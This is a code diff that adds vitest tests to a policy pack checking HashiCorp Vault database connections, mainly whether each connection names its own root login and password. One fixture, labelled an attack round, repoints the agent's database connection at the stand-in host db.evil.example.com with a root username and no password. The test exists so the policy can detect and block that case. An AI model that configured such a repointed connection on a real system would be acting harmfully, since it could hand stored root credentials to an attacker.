@@ -5,7 +5,7 @@
  */
 import { beforeAll, describe, expect, it } from "vitest";
 import { tuneSeconds } from "../../policy/checks/vault-mounts";
-import { declaring, ruleIds, runPack, type Resource } from "../helpers/policy-args";
+import { declaring, ruleIds, runPack, UNKNOWN, type Resource } from "../helpers/policy-args";
 import { sandboxResources } from "../helpers/sandbox-resources";
 
 const CA = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n";
@@ -78,6 +78,67 @@ describe("a database mount's embedded connections are judged as connections", ()
     expect(await adds({ ...mysql, props: { ...mysql.props, mysqls: [{ name: "m", connectionUrl: "{{username}}:{{password}}@tcp(db:3306)/" }] } })).toEqual([
       "database/connection-tls",
     ]);
+  }, 120_000);
+});
+
+describe("a connection names its own root login (Vault keeps a stored root password a write leaves out)", () => {
+  const CONNECTION = "vault:database/secretBackendConnection:SecretBackendConnection";
+  /** The sandbox's connection with its postgresql block (a secret, as the engine sends it) changed. */
+  const withPostgresql = (change: (block: Record<string, unknown>) => Record<string, unknown>) =>
+    replacing(CONNECTION, "database", (props) => {
+      const wrapped = props.postgresql as Record<string, unknown>;
+      const secret = "value" in wrapped && Object.keys(wrapped).length === 2;
+      const block = change({ ...((secret ? wrapped.value : wrapped) as Record<string, unknown>) });
+      return { ...props, postgresql: secret ? { ...wrapped, value: block } : block };
+    });
+  const without = (key: string) => (block: Record<string, unknown>) => {
+    const { [key]: _drop, ...rest } = block;
+    void _drop;
+    return rest;
+  };
+  it("the sandbox's connection (username and password from passwordConfigKey) passes", async () => {
+    expect(await withPostgresql((block) => block)).toEqual([]);
+    // Unknown at preview is not this rule's: the postgresql block is read whole, so stack/unknown-input holds it until update.
+    expect(await withPostgresql((block) => ({ ...block, password: UNKNOWN }))).toEqual(["stack/unknown-input"]);
+  }, 120_000);
+  it("refuses the connection with no password, an empty one, or no username", async () => {
+    expect(await withPostgresql(without("password"))).toEqual(["database/connection-root-login"]);
+    expect(await withPostgresql((block) => ({ ...block, password: "" }))).toEqual(["database/connection-root-login"]);
+    expect(await withPostgresql(without("username"))).toEqual(["database/connection-root-login"]);
+  }, 120_000);
+  it("refuses a second connection re-pointing the agent's connection at another host without a password (attack round 7 vDbConnHostSwap)", async () => {
+    const repoint: Resource = {
+      type: CONNECTION,
+      name: "dbc2",
+      props: {
+        backend: "database",
+        name: "ledger",
+        allowedRoles: ["sandbox.invoice-triage.ledger"],
+        verifyConnection: true,
+        postgresql: { connectionUrl: "postgresql://{{username}}:{{password}}@db.evil.example.com:5432/ledger?sslmode=verify-full", username: "vault-root" },
+      },
+    };
+    expect(await adds(repoint)).toEqual(["database/connection-root-login"]);
+  }, 120_000);
+  it("judges a database mount's embedded connections the same way", async () => {
+    const mount = (password?: string): Resource => ({
+      type: "vault:database/secretsMount:SecretsMount",
+      name: "db3",
+      props: {
+        path: "database3",
+        postgresqls: [
+          {
+            name: "warehouse",
+            connectionUrl: "postgresql://{{username}}:{{password}}@db:5432/w?sslmode=verify-full",
+            allowedRoles: [],
+            username: "root",
+            ...(password === undefined ? {} : { password }),
+          },
+        ],
+      },
+    });
+    expect(await adds(mount("x"))).toEqual([]);
+    expect(await adds(mount())).toEqual(["database/connection-root-login"]);
   }, 120_000);
 });
 
